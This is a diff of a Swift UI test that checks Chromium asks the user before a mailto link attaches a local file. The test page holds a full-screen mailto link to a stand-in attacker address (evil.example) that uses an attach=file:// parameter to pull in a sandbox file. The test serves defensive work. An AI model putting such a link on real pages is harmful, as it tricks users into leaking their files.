@@ -224,7 +224,7 @@ extension SheetTests {
             let page = try BrowserPage(
                 body: "<a href=\"mailto:support@evil.example?subject=Support&amp;attach=file://\(inside)\" "
                     + "style=\"display:block;width:100vw;height:100vh\">Contact support</a>",
-                desktop: desktop, environment: environment, directory: sandbox.root)
+                desktop: desktop, environment: environment, directory: sandbox.root, bus: portalFreeBus.address)
             try page.click(x: 400, y: 300)
             let steps = try desktop.drive([
                 "wait-sheet", "wait-label:Chromium asks to attach", "state:\(inside)", "press:Cancel", "wait-gone",
